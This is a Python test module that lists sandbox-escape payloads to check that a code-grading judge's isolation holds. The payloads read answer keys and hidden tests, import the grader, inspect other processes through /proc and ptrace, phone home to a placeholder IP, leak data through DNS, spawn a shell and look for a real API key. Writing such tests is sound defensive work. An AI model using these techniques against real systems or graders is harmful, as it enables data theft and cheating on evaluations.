"""Attacks that want out of the sandbox, or to see what is not theirs."""

from __future__ import annotations

from tests.attacks.attack import Attack, at_import

# Whoever gets out leaves a mark in a folder of the machine that the test looks at.
MARK = "def mark():\n    open('{mark}', 'w').write('out')\n"

ATTACKS: tuple[Attack, ...] = (
    at_import("writes outside", "writes a file of the machine", f"{MARK}mark()\n"),
    at_import(
        "reads the keys",
        "reads the answer key and repairs itself by it",
        f"{MARK}import glob\n"
        "for path in glob.glob('/**/solutions/helpdesk/feature/**/*.py', recursive=True):\n"
        "    exec(open(path).read())\n    mark()\n",
    ),
    at_import(
        "borrows a submission",
        "runs the code that somebody else handed in to the same judge before",
        "import glob, os\n"
        "mine = os.path.dirname(os.path.abspath(__file__))\n"
        "trees = os.path.dirname(os.path.dirname(os.path.dirname(mine)))\n"
        "found = glob.glob(os.path.join(trees, '*', 'src', 'helpdesk'))\n"
        "__path__[:0] = sorted({*found} - {mine}, reverse=True)\n",
    ),
    at_import(
        "imports the keys", "imports the answer key", f"import solutions.helpdesk\n{MARK}mark()\n"
    ),
    at_import("imports the judge", "imports messypr", f"import checker.grading\n{MARK}mark()\n"),
    at_import(
        "reads the tests",
        "reads the hidden tests",
        f"{MARK}import glob\nif glob.glob('/**/test_drafts.py', recursive=True):\n    mark()\n",
    ),
    at_import(
        "reads the judge's memory",
        "reads another process's memory",
        f"{MARK}import os\nopen(f'/proc/{{os.getppid()}}/mem', 'rb').read(1)\nmark()\n",
    ),
    at_import(
        "reads the judge's arguments",
        "looks for secrets in other processes",
        f"{MARK}import glob\n"
        "paths = glob.glob('/proc/[0-9]*/cmdline')\n"
        "if any('judge' in open(p).read() for p in paths):\n    mark()\n",
    ),
    at_import(
        "phones home",
        "sends what it knows to a server outside",
        f"{MARK}import socket\nsocket.create_connection(('192.0.2.1', 80), 1)\nmark()\n",
    ),
    at_import(
        "asks DNS",
        "leaks by looking names up",
        f"{MARK}import socket\nsocket.getaddrinfo('secret.example.com', 80)\nmark()\n",
    ),
    at_import(
        "starts a shell",
        "runs another program",
        f"{MARK}import subprocess\n"
        "subprocess.run(['/bin/sh', '-c', 'exit 0'], check=True)\nmark()\n",
    ),
    at_import(
        "new namespaces",
        "makes namespaces of its own",
        f"{MARK}import ctypes\nif ctypes.CDLL(None).unshare(0x10000000) == 0:\n    mark()\n",
    ),
    at_import(
        "traces its parent",
        "attaches to its parent",
        f"{MARK}import ctypes, os\n"
        "if ctypes.CDLL(None).ptrace(16, os.getppid(), 0, 0) == 0:\n    mark()\n",
    ),
    at_import(
        "changes its tree",
        "repairs its own files while it is judged",
        f"{MARK}import helpdesk\nopen(helpdesk.__file__, 'a').write('#')\nmark()\n",
    ),
    at_import(
        "abstract socket",
        "talks to the machine's desktop",
        f"{MARK}import socket\n"
        "socket.socket(socket.AF_UNIX).connect('\\0/tmp/.X11-unix/X0')\nmark()\n",
    ),
    at_import(
        "real key",
        "looks for a real API key",
        f"{MARK}import os\nif os.environ.get('MISTRAL_API_KEY') != 'test-key':\n    mark()\n",
    ),
)
